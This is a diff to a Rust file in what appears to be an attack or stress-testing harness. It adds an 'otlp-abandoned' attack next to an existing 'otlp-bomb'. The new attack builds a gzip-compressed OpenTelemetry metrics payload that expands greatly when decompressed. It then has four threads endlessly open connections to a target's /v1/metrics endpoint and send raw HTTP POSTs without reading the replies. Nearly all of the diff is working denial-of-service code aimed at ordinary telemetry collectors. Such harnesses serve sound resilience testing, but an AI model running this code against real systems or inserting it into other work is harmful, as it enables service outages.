@@ -1,15 +1,21 @@
-//! Telemetry that is small and becomes large: empty metrics, points and JSON objects, in gzip.
+//! Telemetry that is small and becomes large: empty metrics, points and JSON objects, in gzip; and
+//! senders who do not wait for it to be read.
 
+use std::fmt::Write as _;
 use std::io::Write as _;
 
 use flate2::Compression;
 use flate2::write::GzEncoder;
 
-use crate::attack::{Attack, Target, post};
+use crate::attack::{Attack, Target, open, post};
 
 pub(crate) const ATTACK: Attack = Attack::new("otlp-bomb", act);
 
+pub(crate) const ABANDONED: Attack = Attack::new("otlp-abandoned", abandon);
+
 const METRICS: usize = 8_000_000;
+/// Of a request that is just not too large.
+const POINTS: usize = 32_000;
 const SENDERS: usize = 4;
 
 fn act(target: &Target) -> anyhow::Result<()> {
@@ -29,6 +35,28 @@ fn act(target: &Target) -> anyhow::Result<()> {
                     for (headers, bomb) in &bombs {
                         let _ = post(target.exporter, "/v1/metrics", headers, bomb);
                     }
+                }
+            });
+        }
+    });
+    Ok(())
+}
+
+/// As much as is read of one request, of a sender who is gone before it is.
+fn abandon(target: &Target) -> anyhow::Result<()> {
+    let points = message(1, &message(2, &message(2, &message(5, &[0x0a, 0x00].repeat(POINTS)))));
+    let body = gzip(&points)?;
+    let mut head = format!(
+        "POST /v1/metrics HTTP/1.1\r\nhost: {}\r\ncontent-type: application/x-protobuf\r\n",
+        target.exporter
+    );
+    write!(head, "content-encoding: gzip\r\ncontent-length: {}\r\n\r\n", body.len())?;
+    std::thread::scope(|threads| {
+        for _ in 0..SENDERS {
+            threads.spawn(|| {
+                loop {
+                    let Ok(mut stream) = open(target.exporter) else { continue };
+                    let _ = stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(&body));
                 }
             });
         }
